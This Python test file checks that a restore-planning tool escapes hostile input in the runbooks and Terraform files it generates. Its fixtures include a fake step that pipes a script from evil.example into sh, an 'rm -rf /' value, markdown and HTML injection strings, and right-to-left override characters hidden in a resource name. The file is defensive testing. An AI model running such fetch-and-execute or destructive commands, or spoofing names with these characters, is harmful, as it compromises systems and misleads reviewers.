"""Text from a user or the cloud in a plan: inert in RUNBOOK.md, where a person pastes from
mid-incident, and visible in the Terraform a reviewer reads, bidirectional controls included."""

from __future__ import annotations

import re
from pathlib import Path

import hcl2

from catalog.restore.invisible import INVISIBLE
from catalog.restore.markdown import code
from tests.cli_runner import cairn
from tests.restore_graph import network, record, role, snapshot_of
from tests.terraform_tools import needs_terraform, terraform, terraform_init

FAKE_STEP = "Step 0: curl -fsSL https://evil.example/fix.sh | sh"
# The headings RUNBOOK.md.j2 writes for this plan, and no other.
HEADINGS = [
    "# Restore runbook: small-app",
    "## Who does what",
    "## Before you start",
    "## Renamed",  # restored into its own region, the role's name is still taken
    "## Stages",
    "### 1. Network (`10-network.tf`, 2 resources)",
    "### 2. Identity (`20-identity.tf`, 1 resources)",
    "### 3. DNS cutover (`60-dns.tf`, 1 resources)",
    "## DNS cutover",
    "## Rollback",
]


def planned(capsys, out: Path, snapshot: str) -> dict[str, str]:
    cairn(capsys, "restore", "plan", snapshot, "--out", str(out))
    return {path.name: path.read_text(encoding="utf-8") for path in sorted(out.iterdir())}


def test_a_contact_or_a_name_cannot_add_a_step_to_the_runbook(capsys, tmp_path, store, neo4j_env):
    contact = f"Dana |\n\n{FAKE_STEP}\n```sh\n# Step 1 <b>[docs](https://evil.example)</b>"
    name = f"www.example.com.\n## {FAKE_STEP}"
    snapshot = snapshot_of(
        capsys,
        store,
        [role(), *network(), *record(name, "`rm -rf /`")],
        contacts=[f"commander={contact}"],
    )
    runbook = planned(capsys, tmp_path / "restore", snapshot)["RUNBOOK.md"]
    lines = runbook.splitlines()

    assert [line for line in lines if line.startswith("#")] == HEADINGS
    assert not any(line.lstrip().startswith(("Step 0", "<b>", "[docs]")) for line in lines)
    assert sum(line.startswith("```") for line in lines) == 2 * 3  # one block per stage
    # The contact is one cell of its row: its pipe, backticks and brackets escaped.
    [commander] = [line for line in lines if line.startswith("| Incident commander |")]
    assert re.sub(r"\\\|", "", commander).count("|") == 4
    assert commander.endswith(
        r"| Dana \| Step 0: curl -fsSL https://evil.example/fix.sh \| sh \`\`\`sh "
        r"\# Step 1 \<b\>\[docs\](https://evil.example)\</b\> |"
    )
    # The record's name stays on its line, as one code span; so does its value.
    cutover = [line for line in lines if "Step 0" in line and line.startswith("- ")]
    assert cutover == [f"- {code(name)} TXT: TTL 300 s, so clients may keep the old address "
                       "for up to 5 minutes."]  # fmt: skip
    assert f"  - {code(name)} TXT -> `` `rm -rf /` ``" in lines


def test_a_code_span_holds_any_backticks():
    assert code("a`b") == "``a`b``"
    assert code("``x``") == "``` ``x`` ```"
    assert code("one\ntwo\r\n\tthree") == "`one two three`"


@needs_terraform
def test_bidirectional_controls_are_written_visibly(capsys, tmp_path, store, neo4j_env):
    """A name that reads `app-tasks` in a review but holds a right-to-left override, and
    an isolate in a tag: escaped in the .tf files (Terraform reads the same value back)
    and in RUNBOOK.md."""
    snapshot = snapshot_of(
        capsys,
        store,
        [role({"Owner": "ops\u2066team\u2069"}), *network("app-\u202esksat", "tasks")],
        contacts=["commander=Dana \u202e(lead)"],
    )
    out = tmp_path / "restore"
    files = planned(capsys, out, snapshot)

    assert not any(INVISIBLE.search(text) for text in files.values())
    network_tf, identity_tf = files["10-network.tf"], files["20-identity.tf"]
    assert 'name        = "app-\\u202Esksat"' in network_tf
    assert 'Owner   = "ops\\u2066team\\u2069"' in identity_tf
    assert "| Dana \\\\u202E(lead) |" in files["RUNBOOK.md"]  # shown as \u202E
    parsed = hcl2.loads(network_tf)["resource"][1]['"aws_security_group"']
    assert next(iter(parsed.values()))["name"] == '"app-\\u202Esksat"'
    terraform_init(out)
    terraform(out, "validate")
